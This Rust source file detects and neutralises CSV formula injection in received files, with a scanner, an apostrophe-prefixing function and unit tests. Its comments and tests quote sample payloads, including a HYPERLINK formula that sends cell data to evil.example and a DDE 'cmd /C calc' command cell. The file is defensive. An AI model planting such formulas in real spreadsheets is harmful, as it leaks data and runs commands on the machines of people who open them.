//! Spreadsheet formulas in received CSV files ("CSV injection"): a cell
//! such as `=HYPERLINK(...)` or `+cmd|' /C calc'!A0` is run by Excel or
//! LibreOffice when a council officer opens the file.
//!
//! Received files stay byte for byte as their sender signed them, so
//! `fetch` only warns, naming each file and how many such cells it holds
//! ([`scan_file`]); `fetch --merge-csv` writes them neutralised with a
//! leading `'` (OWASP's advice: the spreadsheet then shows the text)
//! unless `--keep-formulas` ([`neutralised`]).

use std::borrow::Cow;
use std::path::Path;

/// Whether a spreadsheet would take `cell` for a formula: its first
/// character is `=`, `+`, `-`, `@`, a tab or a carriage return (OWASP's
/// list), and it is not a plain number such as `-12.5` or `+3e4`.
pub fn is_formula(cell: &[u8]) -> bool {
    matches!(cell.first(), Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r')) && !is_plain_number(cell)
}

/// An optional sign, digits with at most one decimal point (at least one
/// digit), and an optional exponent.
fn is_plain_number(cell: &[u8]) -> bool {
    let s = match cell.first() {
        Some(b'+' | b'-') => &cell[1..],
        _ => cell,
    };
    let (mantissa, exponent) = match s.iter().position(|&c| c == b'e' || c == b'E') {
        Some(i) => (&s[..i], Some(&s[i + 1..])),
        None => (s, None),
    };
    let mut digits = 0;
    let mut points = 0;
    for &c in mantissa {
        match c {
            b'0'..=b'9' => digits += 1,
            b'.' => points += 1,
            _ => return false,
        }
    }
    if digits == 0 || points > 1 {
        return false;
    }
    match exponent {
        None => true,
        Some(e) => {
            let e = match e.first() {
                Some(b'+' | b'-') => &e[1..],
                _ => e,
            };
            !e.is_empty() && e.iter().all(u8::is_ascii_digit)
        }
    }
}

/// `cell` as a merge writes it: with a leading `'` when it is a formula.
pub fn neutralised(cell: &[u8]) -> Cow<'_, [u8]> {
    if is_formula(cell) {
        let mut out = Vec::with_capacity(cell.len() + 1);
        out.push(b'\'');
        out.extend_from_slice(cell);
        Cow::Owned(out)
    } else {
        Cow::Borrowed(cell)
    }
}

/// The UTF-8 byte order mark, set aside before the first cell is judged.
const BOM: &[u8] = b"\xef\xbb\xbf";

/// How many cells of the CSV file at `path` a spreadsheet would run as
/// formulas (header row included). Reads it once, streaming; a file that
/// cannot be read or parsed as CSV counts what was read before.
pub fn scan_file(path: &Path) -> std::io::Result<u64> {
    let file = std::fs::File::open(path)?;
    let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(file);
    let mut record = csv::ByteRecord::new();
    let mut cells = 0u64;
    let mut first = true;
    while let Ok(true) = reader.read_byte_record(&mut record) {
        for (i, cell) in record.iter().enumerate() {
            let cell = if first && i == 0 { cell.strip_prefix(BOM).unwrap_or(cell) } else { cell };
            cells += u64::from(is_formula(cell));
        }
        first = false;
    }
    Ok(cells)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_told_from_numbers_and_text() {
        for cell in [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
            "=1+1",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1:A2)",
            "\t=1",
            "\r=1",
            "=",
            "-",
            "+44 20 7946 0000",
            "-1e",
            "-1.2.3",
            "--1",
        ] {
            assert!(is_formula(cell.as_bytes()), "{cell:?}");
        }
        for cell in ["-12.5", "+3", "-0.5e-3", "+1E10", "-.5", "42", "Smith", "a=b", " =1", "", "'=1", "Zoë"] {
            assert!(!is_formula(cell.as_bytes()), "{cell:?}");
        }
        assert_eq!(neutralised(b"=1+1").as_ref(), b"'=1+1");
        assert_eq!(neutralised(b"-5").as_ref(), b"-5");
        assert!(matches!(neutralised(b"text"), Cow::Borrowed(_)));
    }

    #[test]
    fn a_file_scan_counts_formula_cells_in_every_row_and_after_a_bom() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("list.csv");
        std::fs::write(
            &path,
            "\u{feff}=upn,name\r\nA1,\"=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\"\r\nA2,-3\r\nA3,@cmd,+extra\n\n",
        )
        .unwrap();
        // `=upn` (after the byte order mark), `=HYPERLINK(...)`, `@cmd`, `+extra`.
        assert_eq!(scan_file(&path).unwrap(), 4);
        std::fs::write(&path, "upn,fsm\nA1,-1\nA2,+2\n").unwrap();
        assert_eq!(scan_file(&path).unwrap(), 0);
        assert!(scan_file(&dir.path().join("missing.csv")).is_err());
    }
}
